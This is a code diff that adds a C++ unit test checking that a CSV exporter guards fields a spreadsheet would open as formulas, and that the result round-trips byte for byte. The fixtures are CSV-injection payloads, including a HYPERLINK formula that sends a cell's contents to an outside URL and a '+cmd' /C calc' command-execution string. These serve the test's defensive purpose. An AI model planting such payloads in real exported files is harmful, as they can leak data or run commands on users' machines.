@@ -245,5 +245,49 @@ TEST_F(ItemImportTest, ExportedItemsImportAsTheyWere)
     EXPECT_TRUE(result.ignoredColumns.isEmpty());
 }
 
+// Fields a spreadsheet program would open as formulas are written guarded, and what is read
+// back is written as the same bytes again; the longest field a cell holds is not cut by its
+// guard.
+TEST_F(ItemImportTest, HostileFieldsSurviveExportImportExportByteForByte)
+{
+    const QList<QStringList> items = {
+        item({{0, "=HYPERLINK(\"http://x?leak=\"&B3,\"click\")"},
+              {1, "+cmd' /C calc'!A0"},
+              {2, "-2+3"},
+              {3, "@SUM(A1:A9)"},
+              {4, "\t=1"},
+              {5, "-12.50"},
+              {6, "'=already quoted"},
+              {7, "+3"},
+              {8, "'-7"},
+              {9, "\r\n=2"},
+              {10, "=" + QString(kMaxFieldLength - 1, QLatin1Char('z'))},
+              {11, "'"}}),
+        item({{0, "Kitchen"}, {7, "-"}})};
+    std::vector<Item> exported;
+    for (const QStringList& texts : items)
+        exported.push_back(itemFromTexts(texts));
+    const QByteArray first = itemsAsCsv(exported);
+    EXPECT_TRUE(first.contains("\r\n\"'=HYPERLINK(\"\"http://x?leak=\"\"&B3,\"\"click\"\")\","
+                               "'+cmd' /C calc'!A0,'-2+3,'@SUM(A1:A9),'\t=1,-12.50,"
+                               "'=already quoted,+3,'-7,\"'\r\n=2\",'="));
+    EXPECT_TRUE(first.endsWith("\r\nKitchen,,,,,,,'-,,,,\r\n"));
+
+    const ItemImport imported = import(first);
+    ASSERT_TRUE(imported.problem.isEmpty()) << imported.problem.toStdString();
+    EXPECT_TRUE(imported.cutRows.isEmpty());
+    ASSERT_EQ(imported.items.size(), items.size());
+    // Every field reads back as it was, but for one that held a guard's apostrophe itself.
+    QStringList expected = items[0];
+    expected[6] = QStringLiteral("=already quoted");
+    EXPECT_EQ(imported.items[0], expected);
+    EXPECT_EQ(imported.items[1], items[1]);
+
+    std::vector<Item> again;
+    for (const QStringList& texts : imported.items)
+        again.push_back(itemFromTexts(texts));
+    EXPECT_EQ(itemsAsCsv(again), first);
+}
+
 } // namespace
 } // namespace stowfolio
